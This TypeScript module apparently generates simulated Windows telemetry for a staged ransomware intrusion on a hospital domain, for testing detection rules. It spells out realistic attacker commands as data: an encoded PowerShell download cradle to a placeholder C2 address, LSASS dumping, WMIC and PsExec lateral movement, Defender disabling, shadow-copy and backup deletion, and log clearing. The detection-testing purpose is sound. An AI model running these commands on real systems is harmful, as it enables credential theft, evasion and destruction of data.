/**
 * The intrusion: a phishing document on the ICU nurse station, a Cobalt-Strike-like beacon,
 * Active Directory reconnaissance, LSASS dumping (the IT admin had logged on there the day
 * before), lateral movement with WMI to the file server and PsExec to the domain controller,
 * Defender switched off, RDP opened and used from outside, shadow copies and backups destroyed,
 * the department shares encrypted and the logs cleared. Times are UTC, 14 March 2026.
 * Each stage is listed with the rules expected to fire in examples/README.md.
 */
import { HOSTS, USERS, at } from './model.js';
import { type Estate, type Proc } from './estate.js';
import { defender, logon, scriptBlock, securityLogCleared, serviceInstalled, systemLogCleared, tgt } from './winlogs.js';

const C2 = '198.51.100.23';
const ATTACKER_VPN = '203.0.113.77';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const SYS32 = 'C:\\Windows\\System32\\';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\';
const STAGING = 'C:\\ProgramData\\rvhupd\\';

/** What `powershell -EncodedCommand` expects: Base64 of the UTF-16LE script text. */
export function encodePs(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

const T = (hms: string): number => at(`2026-03-14T${hms}Z`);

export function intrusion(e: Estate): void {
  const icu = HOSTS.icu;
  const fs = HOSTS.fs;
  const dc = HOSTS.dc;
  const nurse = USERS.nurse;
  const admin = USERS.admin;

  // 1. Initial access: the nurse opens "lab results" from an e-mail; the macro starts a shell.
  const explorer = e.root(icu, 'C:\\Windows\\explorer.exe', nurse);
  const outlook = e.spawn(T('01:49:58'), explorer, { image: `${OFFICE}OUTLOOK.EXE`, cmd: `"${OFFICE}OUTLOOK.EXE" ` });
  const docPath = `C:\\Users\\${nurse.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q8ZK2M1D\\ICU_Lab_Results_March.docm`;
  e.fileCreate(T('01:52:02'), outlook, docPath);
  const word = e.spawn(T('01:52:09'), outlook, { image: `${OFFICE}WINWORD.EXE`, cmd: `"${OFFICE}WINWORD.EXE" /n "${docPath}" /o ""` });
  const stager = encodePs(`IEX (New-Object Net.WebClient).DownloadString('http://${C2}/cdn/jquery-3.7.1.min.js')`);
  const cmd = e.spawn(T('01:52:31'), word, { image: `${SYS32}cmd.exe`, cmd: `C:\\Windows\\system32\\cmd.exe /c powershell.exe -nop -w hidden -enc ${stager}` });
  const beacon = e.spawn(T('01:52:32'), cmd, { image: PS, cmd: `powershell.exe  -nop -w hidden -enc ${stager}` });
  e.connect(T('01:52:34'), beacon, C2, 80);
  // 2. Command and control: the beacon's SMB pipe, then a sacrificial rundll32 for post-exploitation jobs.
  e.pipe(T('01:53:02'), beacon, '\\MSSE-4821-server');
  const sacrificial = e.spawn(T('01:55:10'), beacon, { image: `${SYS32}rundll32.exe`, cmd: 'C:\\Windows\\system32\\rundll32.exe' });
  e.pipe(T('01:55:11'), sacrificial, '\\postex_3f9a');
  e.connect(T('01:55:12'), sacrificial, C2, 443);

  // 3. Discovery from the foothold (around 02:04).
  const shell = e.spawn(T('02:03:40'), beacon, { image: `${SYS32}cmd.exe`, cmd: 'C:\\Windows\\system32\\cmd.exe /C cd C:\\ProgramData\\rvhupd', cwd: STAGING });
  e.fileCreate(T('02:03:20'), beacon, `${STAGING}adfind.exe`);
  const recon: [string, string][] = [
    [`${STAGING}adfind.exe`, 'adfind.exe -f "(objectcategory=computer)" -csv name operatingSystem dNSHostName'],
    [`${STAGING}adfind.exe`, 'adfind.exe -f "(objectcategory=person)" -csv samAccountName memberOf'],
    [`${STAGING}adfind.exe`, 'adfind.exe -gcb -sc trustdmp'],
    [`${SYS32}nltest.exe`, 'nltest /dclist:rvh.local'],
    [`${SYS32}nltest.exe`, 'nltest /domain_trusts /all_trusts'],
    [`${SYS32}net.exe`, 'net group "domain admins" /domain'],
    [`${SYS32}dsquery.exe`, 'dsquery computer -limit 0'],
  ];
  recon.forEach(([image, c], i) => e.spawn(T('02:04:05') + i * 41_000, shell, { image, cmd: c, cwd: STAGING }));

  // 4. Credential access (02:18): LSASS via comsvcs.dll MiniDump.
  const lsass = e.root(icu, 'C:\\Windows\\system32\\lsass.exe', 'SYSTEM');
  const dumper = e.spawn(T('02:18:44'), shell, { image: `${SYS32}rundll32.exe`, cmd: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${STAGING}wer.tmp full`, integrity: 'High' });
  e.access(T('02:18:45'), dumper, lsass, '0x1FFFFF', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\dbgcore.DLL+6df2|C:\\Windows\\System32\\comsvcs.dll+18a3f|C:\\Windows\\system32\\rundll32.exe+3bbc');
  e.fileCreate(T('02:18:47'), dumper, `${STAGING}wer.tmp`);

  // 5. Lateral movement (02:41) with the admin's stolen password: WMI to the file server …
  const fsStage = encodePs(`IEX (New-Object Net.WebClient).DownloadString('http://${C2}/cdn/fs.js')`);
  e.spawn(T('02:41:17'), shell, { image: `${SYS32}wbem\\WMIC.exe`, cmd: `wmic /node:RVH-FS01 /user:RVH\\adm.jchen /password:******** process call create "powershell.exe -nop -w hidden -enc ${fsStage}"`, cwd: STAGING });
  tgt(e, T('02:41:18'), dc, admin, icu.ip);
  logon(e, T('02:41:19'), fs, admin, 3, icu.ip);
  const fsWmi = e.root(fs, `${SYS32}wbem\\WmiPrvSE.exe`, 'SYSTEM');
  const fsBeacon = e.spawn(T('02:41:20'), fsWmi, { image: PS, cmd: `powershell.exe -nop -w hidden -enc ${fsStage}`, user: admin, integrity: 'High' });
  e.connect(T('02:41:22'), fsBeacon, C2, 443);
  // … and PsExec to the domain controller (02:47).
  e.fileCreate(T('02:46:30'), beacon, `${STAGING}PsExec64.exe`);
  e.spawn(T('02:47:03'), shell, { image: `${STAGING}PsExec64.exe`, cmd: 'PsExec64.exe \\\\RVH-DC01 -accepteula -u RVH\\adm.jchen -p ******** -s cmd.exe /c "C:\\Windows\\Temp\\dcu.bat"', cwd: STAGING });
  onDomainController(e, admin, icu.ip);

  // 6. Defence evasion, RDP, impact and clean-up on the file server.
  onFileServer(e, fsBeacon, admin);
  void nurse;
}

function onDomainController(e: Estate, admin: typeof USERS.admin, fromIp: string): void {
  const dc = HOSTS.dc;
  logon(e, T('02:47:04'), dc, admin, 3, fromIp, 'NTLM');
  serviceInstalled(e, T('02:47:05'), dc, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe');
  const services = e.root(dc, 'C:\\Windows\\System32\\services.exe', 'SYSTEM');
  const svc = e.spawn(T('02:47:05'), services, { image: 'C:\\Windows\\PSEXESVC.exe', cmd: 'C:\\Windows\\PSEXESVC.exe', user: 'SYSTEM' });
  e.pipe(T('02:47:06'), svc, '\\PSEXESVC');
  for (const s of ['stdin', 'stdout', 'stderr']) e.pipe(T('02:47:06'), svc, `\\PSEXESVC-RVH-ICU-WS03-5524-${s}`);
  const cmd = e.spawn(T('02:47:07'), svc, { image: `${SYS32}cmd.exe`, cmd: 'cmd.exe /c "C:\\Windows\\Temp\\dcu.bat"', user: 'SYSTEM' });
  const lsass = e.root(dc, 'C:\\Windows\\system32\\lsass.exe', 'SYSTEM');
  const pd = e.spawn(T('02:49:30'), cmd, { image: 'C:\\Windows\\Temp\\procdump64.exe', cmd: 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\dc.dmp', user: 'SYSTEM' });
  e.access(T('02:49:31'), pd, lsass, '0x1FFFFF', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\Temp\\procdump64.exe+2a1b0');
  e.fileCreate(T('02:49:40'), pd, 'C:\\Windows\\Temp\\dc.dmp');
  e.spawn(T('02:52:10'), cmd, { image: PS, cmd: 'powershell.exe -c "Set-MpPreference -DisableRealtimeMonitoring $true"', user: 'SYSTEM' });
  defender(e, T('02:52:11'), dc, 5001);
  // Later, leaving: the DC's Security log is wiped.
  e.spawn(T('03:44:02'), cmd, { image: `${SYS32}wevtutil.exe`, cmd: 'wevtutil.exe cl Security', user: 'SYSTEM' });
  securityLogCleared(e, T('03:44:03'), dc, admin);
}

function onFileServer(e: Estate, beacon: Proc, admin: typeof USERS.admin): void {
  const fs = HOSTS.fs;
  const run = (t: string, image: string, c: string): Proc => e.spawn(T(t), beacon, { image, cmd: c });
  // Defender off, three ways, and the backup agent stopped.
  run('03:05:12', PS, 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true');
  scriptBlock(e, T('03:05:13'), fs, admin.sid, 'Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true');
  defender(e, T('03:05:14'), fs, 5001);
  const reg = run('03:06:40', `${SYS32}reg.exe`, 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f');
  e.regSet(T('03:06:40') + 120, reg, 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware', 'DWORD (0x00000001)');
  run('03:07:02', `${SYS32}sc.exe`, 'sc.exe stop WinDefend');
  run('03:07:09', `${SYS32}sc.exe`, 'sc.exe config WinDefend start= disabled');
  run('03:07:20', `${SYS32}sc.exe`, 'sc.exe stop VeeamTransportSvc');
  // RDP switched on and used from the attacker's VPN exit.
  const rdp = run('03:12:30', `${SYS32}reg.exe`, 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f');
  e.regSet(T('03:12:30') + 90, rdp, 'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections', 'DWORD (0x00000000)');
  logon(e, T('03:20:41'), fs, admin, 10, ATTACKER_VPN, 'Negotiate');
  // Recovery destroyed.
  run('03:31:05', `${SYS32}vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet');
  run('03:31:12', `${SYS32}wbem\\WMIC.exe`, 'wmic.exe shadowcopy delete /nointeractive');
  run('03:31:20', `${SYS32}wbadmin.exe`, 'wbadmin delete catalog -quiet');
  run('03:31:26', `${SYS32}bcdedit.exe`, 'bcdedit /set {default} recoveryenabled No');
  run('03:31:29', `${SYS32}bcdedit.exe`, 'bcdedit /set {default} bootstatuspolicy ignoreallfailures');
  scriptBlock(e, T('03:31:40'), fs, admin.sid, 'Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }');
  // Encryption of the department shares: a note per folder, files renamed to .locked.
  const enc = run('03:34:00', 'C:\\Users\\Public\\svcupd.exe', 'C:\\Users\\Public\\svcupd.exe -path D:\\Shares -threads 4');
  const depts = ['ICU', 'Radiology', 'Pharmacy', 'Theatres', 'Maternity', 'Oncology', 'HR', 'Finance'];
  const subs = ['Rotas', 'Protocols', 'Audit', 'Minutes', 'Forms'];
  let t = T('03:34:05');
  for (const d of depts) {
    for (const s of subs) {
      const dir = `D:\\Shares\\${d}\\${s}\\`;
      e.fileCreate(t, enc, `${dir}RESTORE-MY-FILES.txt`);
      for (let i = 0; i < 2; i++) e.fileCreate(t + 300 + i * 250, enc, `${dir}${s.toLowerCase()}_${e.rng.int(100, 999)}.docx.locked`);
      t += 3700;
    }
  }
  // Logs wiped on the way out.
  run('03:45:10', `${SYS32}wevtutil.exe`, 'wevtutil.exe cl System');
  systemLogCleared(e, T('03:45:11'), fs, admin, 'System');
  run('03:45:14', `${SYS32}wevtutil.exe`, 'wevtutil.exe cl Security');
  securityLogCleared(e, T('03:45:15'), fs, admin);
}
